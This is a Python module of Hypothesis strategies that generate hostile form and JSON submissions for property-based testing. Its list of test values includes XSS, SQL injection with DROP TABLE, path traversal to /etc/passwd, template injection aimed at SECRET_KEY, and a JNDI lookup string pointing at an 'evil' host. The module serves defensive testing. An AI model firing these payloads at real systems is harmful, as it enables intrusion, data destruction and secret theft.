"""Hypothesis strategies for hostile input: the values attackers and broken clients send."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

MARKER = "<script>alert('jjg')</script>"

HOSTILE_TEXTS = [
    MARKER,
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "'; DROP TABLE app_user; --",
    "1; SELECT pg_sleep(10)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "{{ config.SECRET_KEY }}",
    "{0.__class__.__mro__}",
    "%(password)s %s %n",
    "${jndi:ldap://evil/a}",
    "\x00\x01\x02",
    "\u202etxt.exe",
    "﷽" * 50,
    "𝕁𝕖𝕟𝕛𝕒𝕟𝕘 🙂",
    " ",
    "",
    "-1",
    "1e309",
    "NaN",
    "9" * 400,
    "2026-02-30",
    "0000-00-00",
    "true",
    "x" * 70_000,
]

hostile_text = st.one_of(st.sampled_from(HOSTILE_TEXTS), st.text(max_size=300))

scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    hostile_text,
)

value: st.SearchStrategy[Any] = st.recursive(
    scalar,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=6,
)

# JSON can carry no NaN or infinity in a strict parser: these stay within what JSON allows.
json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_value: st.SearchStrategy[Any] = st.recursive(
    json_scalar,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=6,
)


def data_for(fields: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    """A submission: some of the form's fields, maybe an unknown one, hostile values."""
    names = st.sampled_from(fields) if fields else st.nothing()
    known = st.dictionaries(names, value, max_size=len(fields) or 0)
    extra = st.dictionaries(hostile_text, value, max_size=1)
    return st.builds(lambda a, b: {**b, **a}, known, extra)


def json_data_for(fields: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    """As data_for, with JSON values only."""
    names = st.sampled_from(fields) if fields else st.nothing()
    known = st.dictionaries(names, json_value, max_size=len(fields) or 0)
    extra = st.dictionaries(hostile_text, json_value, max_size=1)
    return st.builds(lambda a, b: {**b, **a}, known, extra)
